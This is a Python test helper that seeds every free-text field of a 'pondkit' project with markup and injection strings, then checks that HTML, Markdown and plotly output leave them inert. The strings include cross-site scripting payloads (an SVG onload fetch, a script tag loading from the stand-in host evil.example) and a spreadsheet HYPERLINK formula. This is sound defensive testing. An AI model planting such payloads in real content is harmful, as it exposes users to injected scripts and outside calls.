"""A project that holds markup, formulas, HTML and image links in every text field, and
the look that none of it is obeyed.
"""

import re
from html.parser import HTMLParser
from typing import Any

from pondkit import Project, load, save
from pondkit.core.part import Part, choices_in, refers_in
from pondkit.core.units import Entered

FAR = "evil.example"  # a name that nothing answers to (RFC 2606)
# As long as a name may be, with room for a number.
TEXTS = (
    f"![i](http://{FAR}/i.png)",
    f"<img src=http://{FAR}/p.png>",
    f"<a href='http://{FAR}/'>x</a>",
    f"[x](http://{FAR}) $x^2$ **b**",
    f'=HYPERLINK("http://{FAR}")',
    f"www.{FAR} :smile: :red[x] -> y",
    f"<script src='//{FAR}'></script>",
    "{x} & <b>b</b> \\_ _i_ `c` # h --- *",
    f"\"><svg onload='fetch(`//{FAR}`)'>",
)
SHORT = "<b>$![*"[:6]  # for what takes six characters
KEPT = {"data", "job_id", "logo", "date"}  # texts that no person writes, or that are a date


def marked(project: Project) -> Project:
    """The project with such texts in every field that a person writes; names go on naming what they named."""
    names: dict[str, str] = {}

    def other(text: str) -> str:
        number = len(names)
        return names.setdefault(text, f"{TEXTS[number % len(TEXTS)]} {number}")

    def named(part: Part) -> None:
        for name in type(part).model_fields:
            value = getattr(part, name)
            for item in value if isinstance(value, tuple) else (value,):
                if isinstance(item, Part):
                    named(item)
            if name in ("name", "zone"):
                other(value)

    def changed(part: Part) -> Part:
        held, new = type(part), dict[str, Any]()
        for name, field in held.model_fields.items():
            value = getattr(part, name)
            if isinstance(value, Part):
                new[name] = changed(value)
            elif isinstance(value, tuple):
                new[name] = tuple(
                    changed(v) if isinstance(v, Part) else names.get(v, v) if isinstance(v, str) else v for v in value
                )
            elif not isinstance(value, str) or isinstance(value, Entered) or name in KEPT:
                continue
            elif refers_in(held, name) == "rows":
                head, mark, rest = value.partition(": ")
                new[name] = names.get(head, head) + mark + rest
            elif refers_in(held, name) or name == "of":
                new[name] = names.get(value, value)
            elif name in ("currency", "revision"):
                new[name] = SHORT
            elif not choices_in(held, name) and "Literal" not in str(field.annotation):
                new[name] = other(value or f"{held.__name__} {name}")
        return part.changed(**new)

    named(project)
    return load(save(changed(project)).encode())  # type: ignore[arg-type]


def text_fields(part: Part, held: dict[str, str] | None = None) -> dict[str, str]:
    """Class and field -> text of every field that a person writes, of one of each."""
    held = {} if held is None else held
    for name, field in type(part).model_fields.items():
        value = getattr(part, name)
        for item in value if isinstance(value, tuple) else (value,):
            if isinstance(item, Part):
                text_fields(item, held)
        free = (
            not choices_in(type(part), name)
            and not refers_in(type(part), name)
            and "Literal" not in str(field.annotation)
        )
        if isinstance(value, str) and not isinstance(value, Entered) and free and name not in KEPT:
            held[f"{type(part).__name__}.{name}"] = value
    return held


class _Obeyed(HTMLParser):
    """Collects what a browser would make of the project's texts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.inside: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.inside.append(tag)
        for name, value in attrs:
            outside = name in ("href", "src", "xlink:href", "srcset", "action") and FAR in (value or "")
            if outside or (name.startswith("on") and "fetch(" in (value or "")) or "<" in name or FAR in name:
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag in ("a", "img", "iframe", "script", "link") and any(FAR in (value or "") for _, value in attrs):
            self.found.append(f"<{tag}>")

    def handle_data(self, data: str) -> None:
        if self.inside and self.inside[-1] in ("script", "style") and FAR in data:
            self.found.append(f"in <{self.inside[-1]}>: {data[:80]}")

    def handle_endtag(self, tag: str) -> None:
        while self.inside and self.inside.pop() != tag:
            pass


def obeyed_as_html(text: str) -> list[str]:
    """What of the project's texts would be obeyed as HTML."""
    look = _Obeyed()
    look.feed(text)
    return look.found


# Unescaped pieces of the texts above.
_MARKDOWN = re.compile(
    r"(?<!\\)!\[|(?<!\\)\]\(|(?<!\\)\$x|(?<!\\)\*\*b|(?<!\\):(?:red|smile)|(?<!\\)<(?:img|a|script|svg|b>)|www\.evil|http://evil|(?<!\\)->"
)


def obeyed_as_markdown(text: str) -> list[str]:
    """What of the project's texts would be obeyed as Markdown."""
    return [match[0] for match in _MARKDOWN.finditer(text)]


def obeyed_by_plotly(value: Any, key: str = "") -> list[str]:
    """Tags in a figure's labels: plotly makes links and bold type of them."""
    if isinstance(value, dict):
        return [
            tag
            for name, item in value.items()
            if name not in ("customdata", "meta", "alt", "handles")
            for tag in obeyed_by_plotly(item, name)
        ]
    if isinstance(value, list):
        return [tag for item in value for tag in obeyed_by_plotly(item, key)]
    return re.findall(r"<(?:a|img|script|svg)\b[^>]*>|<b>b", value) if isinstance(value, str) else []
